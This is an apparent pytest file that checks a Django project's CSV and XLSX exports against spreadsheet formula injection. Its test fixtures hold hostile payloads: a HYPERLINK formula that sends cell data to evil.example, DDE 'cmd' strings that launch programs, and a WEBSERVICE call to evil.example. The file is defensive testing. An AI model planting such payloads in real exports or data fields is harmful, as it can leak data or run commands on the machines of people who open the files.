"""Every CSV and XLSX export shows text that starts like a formula as text, never runs it."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from consultations.models import Memorandum
from foundation.spreadsheets import csv_bytes, safe_cell, xlsx_bytes
from tests.consultations.conftest_memoranda import make_memorandum
from tests.proposals.conftest import make_proposal

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


class TestWriter:
    @pytest.mark.parametrize(
        "value, expected",
        [
            ("=1+1", "'=1+1"),
            ("+7 701 000 00 00", "'+7 701 000 00 00"),
            ("- бірінші тармақ", "'- бірінші тармақ"),
            ("@home", "'@home"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("Алматы = 1", "Алматы = 1"),
            ("", ""),
            (-5, -5),
            (2.5, 2.5),
            (None, ""),
            (True, "true"),
        ],
    )
    def test_csv_cells_starting_like_a_formula_get_an_apostrophe(self, value, expected):
        assert safe_cell(value) == expected

    def test_csv_keeps_numbers_and_quotes_text(self):
        body = csv_bytes([["a", "b", "c"], ["=1+1", -3, "Қазақ, тілі"]])
        assert body == '\ufeffa,b,c\r\n\'=1+1,-3,"Қазақ, тілі"\r\n'.encode()

    def test_xlsx_text_cells_are_strings_and_numbers_stay_numbers(self):
        data = xlsx_bytes({"s": [[*HOSTILE, 7, -1.5, datetime.date(2026, 9, 1), "a\x0bb"]]})
        cells = list(load_workbook(io.BytesIO(data)).active.iter_rows())[0]
        # XML reads a carriage return back as a line feed.
        assert [(c.value, c.data_type) for c in cells[: len(HOSTILE)]] == [
            (v.replace("\r", "\n"), "s") for v in HOSTILE
        ]
        assert [(c.value, c.data_type) for c in cells[len(HOSTILE) : len(HOSTILE) + 2]] == [(7, "n"), (-1.5, "n")]
        assert cells[-2].value == datetime.datetime(2026, 9, 1)
        assert cells[-1].value == "ab"  # a control character XML cannot hold is dropped, not a 500


@pytest.mark.django_db
class TestEveryExport:
    def test_the_open_data_csv(self, client, tour):
        for text in HOSTILE:
            make_proposal(tour=tour, text=text + " мектеп", author_organisation="=ORG()", publish_name=True)
        body = b"".join(client.get("/en/proposals/open-data.csv").streaming_content)
        rows = _csv_rows(body)
        texts = {row[rows[0].index("text")] for row in rows[1:]}
        assert texts == {"'" + text + " мектеп" for text in HOSTILE}
        assert {row[rows[0].index("author_organisation")] for row in rows[1:]} == {"'=ORG()"}

    def test_the_staff_csv_and_xlsx(self, staff_client, tour):
        make_proposal(tour=tour, text="=1+2 ауруханаға", author_name="@Асқар", contact_phone="+77010000000")
        response = staff_client.get(reverse("proposals:export", args=["csv"]))
        rows = _csv_rows(b"".join(response.streaming_content))
        row = dict(zip(rows[0], rows[1], strict=True))
        assert (row["text"], row["author_name"], row["contact_phone"]) == (
            "'=1+2 ауруханаға",
            "'@Асқар",
            "'+77010000000",
        )

        response = staff_client.get(reverse("proposals:export", args=["xlsx"]))
        sheet = load_workbook(io.BytesIO(response.content)).active
        header = [c.value for c in sheet[1]]
        text_cell = sheet.cell(row=2, column=header.index("text") + 1)
        assert (text_cell.value, text_cell.data_type) == ("=1+2 ауруханаға", "s")

    def test_the_commitments_xlsx(self, staff_client, astana):
        memorandum = make_memorandum(astana, Memorandum.Status.SIGNED)
        memorandum.commitments.update(description='=WEBSERVICE("http://evil.example")')
        response = staff_client.get(f"/en/staff/memoranda/{memorandum.pk}/commitments.xlsx")
        sheet = load_workbook(io.BytesIO(response.content)).active
        rows = list(sheet.iter_rows(min_row=2))
        assert {(row[2].value, row[2].data_type) for row in rows} == {('=WEBSERVICE("http://evil.example")', "s")}
        assert {row[0].data_type for row in rows} == {"n"}  # ids stay numbers, so the sheet imports back
